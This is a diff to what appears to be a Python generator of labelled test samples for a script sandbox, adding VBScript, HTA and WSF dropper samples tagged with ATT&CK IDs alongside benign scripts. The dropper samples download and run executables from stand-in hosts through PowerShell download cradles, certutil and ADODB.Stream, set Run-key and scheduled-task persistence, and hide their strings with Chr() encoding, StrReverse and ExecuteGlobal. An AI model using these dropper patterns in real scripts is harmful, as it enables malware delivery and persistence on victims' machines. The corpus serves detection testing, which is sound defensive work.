@@ -144,24 +144,164 @@ if (x.status == 200 || true) {
 }
 """, ["T1105", "T1059.007"])
 
-# 12. VBScript: box-js has no VBScript engine
+# VBScript (translated to JScript by data/wsh-vbs.js inside the sandbox, then run in box-js).
+# 12. plain: XMLHTTP, ADODB.Stream with a With block, Run of the saved file
 dropper("loader.vbs", """Set x = CreateObject("MSXML2.XMLHTTP")
 x.Open "GET", "http://example.invalid/v.exe", False
 x.Send
 Set s = CreateObject("ADODB.Stream")
-s.Open : s.Type = 1 : s.Write x.ResponseBody
-s.SaveToFile "C:\\Users\\Public\\v.exe", 2
+With s
+  .Open : .Type = 1 : .Write x.ResponseBody
+  .SaveToFile "C:\\Users\\Public\\v.exe", 2
+End With
 CreateObject("WScript.Shell").Run "C:\\Users\\Public\\v.exe", 0
-""", ["T1105"], kind="vbs")
+""", ["T1105", "T1059.005", "T1204.002"], kind="vbs")
 
-# 13. HTA with VBScript
+# 13. HTA with VBScript: a PowerShell download cradle
 dropper("vbs.hta", """<html><head><HTA:APPLICATION WINDOWSTATE="minimize"/>
 <script language="VBScript">
 Set sh = CreateObject("WScript.Shell")
 sh.Run "powershell -c iwr http://example.invalid/h.exe -OutFile h.exe; .\\h.exe", 0
 self.close
 </script></head><body></body></html>
-""", ["T1105"], kind="vbs")
+""", ["T1105", "T1059.005", "T1059.001"], kind="vbs")
+
+
+def vb_chrs(s):
+    return " & ".join("Chr(%d)" % ord(c) for c in s)
+
+
+VB_BODY = """Set h = CreateObject("WinHttp.WinHttpRequest.5.1")
+h.Open "GET", "http://example.invalid/c.exe", False
+h.Send
+Set st = CreateObject("ADODB.Stream")
+st.Type = 1 : st.Open : st.Write h.ResponseBody
+st.SaveToFile "C:\\ProgramData\\c.exe", 2
+CreateObject("WScript.Shell").Run "cmd /c C:\\ProgramData\\c.exe", 0, False"""
+
+# 14. the whole body in Execute of Chr() concatenations, line continuations, On Error
+chunks = [vb_chrs(line) + " & vbCrLf" for line in VB_BODY.split("\n")]
+dropper("chr.vbs", "On Error Resume Next\nDim p\np = \"\"\n" +
+        "".join("p = p & %s\n" % c for c in chunks) + "Execute p\n",
+        ["T1105", "T1059.005", "T1204.002", "T1059.003"], kind="vbs")
+
+# 15. a Run key and a payload, names from StrReverse and Replace
+dropper("runkey.vbs", """Option Explicit
+Dim sh, x, s, u
+u = StrReverse("exe.tsohcvs/dilavni.elpmaxe//:ptth")
+Set x = CreateObject(Replace("MSXML2.XM#HTTP", "#", "L"))
+x.Open "GET", u, False
+x.Send
+Set s = CreateObject(StrReverse("maertS.BDODA"))
+s.Type = 1
+s.Open
+s.Write x.ResponseBody
+s.SaveToFile "C:\\Users\\Public\\svchost.exe", 2
+s.Close
+Set sh = CreateObject("WScript.Shell")
+sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "C:\\Users\\Public\\svchost.exe", "REG_SZ"
+""", ["T1105", "T1059.005", "T1547.001"], kind="vbs")
+
+# 16. WSF with VBScript: Split/Join, a Function, certutil through cmd with Exec
+dropper("cert.wsf", """<?xml version="1.0"?>
+<job id="u"><script language="VBScript"><![CDATA[
+Function Build(parts)
+  Build = Join(parts, "")
+End Function
+Dim a
+a = Split("cmd /c cer|tutil -urlca|che -split -f http://example.invalid/k.exe %TEMP%\\k.exe", "|")
+Set sh = WScript.CreateObject("WScript.Shell")
+Set e = sh.Exec(Build(a))
+]]></script></job>
+""", ["T1105", "T1059.005", "T1059.003"], kind="vbs")
+
+# 17. a scheduled task running PowerShell, quotes doubled, a Sub
+dropper("task.vbs", '''Sub Persist(cmd)
+  CreateObject("WScript.Shell").Run "schtasks /create /f /sc minute /mo 30 /tn ""OneDrive Sync"" /tr """ & cmd & """", 0, True
+End Sub
+Persist "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/t.ps1')"
+''', ["T1105", "T1059.005", "T1053.005", "T1059.001"], kind="vbs")
+
+# 18. char codes shifted by one in an array, decoded in a For loop, Select Case, Call
+dropper("shift.vbs", """Dim k, i, url, o
+k = Array(%s)
+For i = 0 To UBound(k)
+  url = url & Chr(k(i) - 1)
+Next
+Function Pick(n)
+  Select Case n
+    Case 1
+      Pick = "MSXML2.ServerXMLHTTP"
+    Case 2
+      Pick = "ADODB.Stream"
+    Case Else
+      Pick = "WScript.Shell"
+  End Select
+End Function
+Set o = CreateObject(Pick(1))
+o.Open "GET", url, False
+o.Send
+If o.Status = 200 Or True Then
+  Set f = CreateObject(Pick(2))
+  f.Open
+  f.Type = 1
+  f.Write o.ResponseBody
+  f.SaveToFile "C:\\Users\\Public\\s.exe", 2
+End If
+Call CreateObject(Pick(3)).Run("C:\\Users\\Public\\s.exe", 0)
+""" % ", ".join(str(ord(c) + 1) for c in "http://127.0.0.1:9/s.exe"),
+        ["T1105", "T1059.005", "T1204.002"], kind="vbs")
+
+# 19. HTA whose VBScript runs ExecuteGlobal of a reversed body
+body19 = 'CreateObject("WScript.Shell").Run "mshta http://example.invalid/x.hta", 0'
+dropper("global.hta", """<html><head><title>Update</title><hta:application showintaskbar="no"/>
+<script language="VBScript">
+Dim b
+b = "%s"
+ExecuteGlobal StrReverse(b)
+window.close
+</script></head></html>
+""" % body19[::-1].replace('"', '""'), ["T1105", "T1059.005"], kind="vbs")
+
+# Benign VBScript: a log file, a sum, a Select Case, a Dictionary, string handling.
+write(ben, "log.vbs", """Option Explicit
+Dim fso, f
+Set fso = CreateObject("Scripting.FileSystemObject")
+Set f = fso.OpenTextFile("C:\\Users\\Public\\backup.log", 8, True)
+f.WriteLine "backup finished: " & Now
+f.Close
+""")
+write(ben, "sum.vbs", """Dim i, total
+total = 0
+For i = 1 To 100
+  total = total + i
+Next
+WScript.Echo "sum: " & total
+""")
+write(ben, "weekday.vbs", """Function DayName(n)
+  Select Case n
+    Case 1: DayName = "Sunday"
+    Case 7: DayName = "Saturday"
+    Case Else: DayName = "a weekday"
+  End Select
+End Function
+WScript.Echo DayName(3)
+""")
+write(ben, "count.vbs", """Set d = CreateObject("Scripting.Dictionary")
+d.Add "a", 0 : d.Add "b", 0
+words = Split("a b a b a", " ")
+For Each w In words
+  d.Item(w) = d.Item(w) + 1
+Next
+WScript.Echo "a: " & d.Item("a") & ", b: " & d.Item("b")
+""")
+write(ben, "names.wsf", """<?xml version="1.0"?>
+<job id="names"><script language="VBScript">
+Dim n
+n = UCase(Left("alice", 1)) & Mid("alice", 2)
+MsgBox "Hello " & n, 64, "Names"
+</script></job>
+""")
 
 # Benign Windows scripts: arithmetic, argument handling, text, dates, a read of a file.
 write(ben, "sum.js", """
